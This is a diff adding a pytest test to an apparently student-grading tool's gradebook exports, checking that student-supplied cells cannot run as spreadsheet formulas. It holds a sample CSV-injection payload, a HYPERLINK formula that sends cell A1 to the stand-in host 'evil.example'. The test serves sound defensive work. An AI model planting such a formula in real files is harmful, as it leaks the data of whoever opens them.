@@ -146,3 +146,25 @@ def test_the_cli_reports_a_submission_missing_from_the_roster(tmp_path):
     rows = rows_of((tmp_path / "canvas.csv").read_text())
     assert {row[0] for row in rows[2:]} == {"Ada Lovelace", "Ben Ample", "Cat Never-Submitted",
                                              "zed"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_a_student_controls_runs_as_a_formula_in_any_gradebook(tmp_path, start):
+    # a folder name and a check's feedback (the student's exception message) that begin
+    # like a formula reach the spreadsheet as text: a leading ' in every format
+    hostile = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    result = NotebookResult("01_qlearning")
+    result.add(CheckResult("test_update", 0.0, 3.0, "failed", hostile))
+    report = class_report({hostile: [result]}, lessons=lesson_maxima())
+    path = tmp_path / "roster.csv"
+    with path.open("w", newline="") as handle:
+        csv.writer(handle).writerows([["folder", "name", "email"],
+                                      [hostile, hostile, "x@uni.example"]])
+    roster = Roster.read(path)
+    for text in (generic(report), generic(report, roster), canvas(report),
+                 canvas(report, roster), moodle(report, roster, with_feedback=True)):
+        cells = [cell for row in rows_of(text) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t",
+                                                                "\r"))], text
+        if start not in "\t\r":  # control characters are replaced or stripped anyway
+            assert any(cell.startswith("'" + start) for cell in cells), text
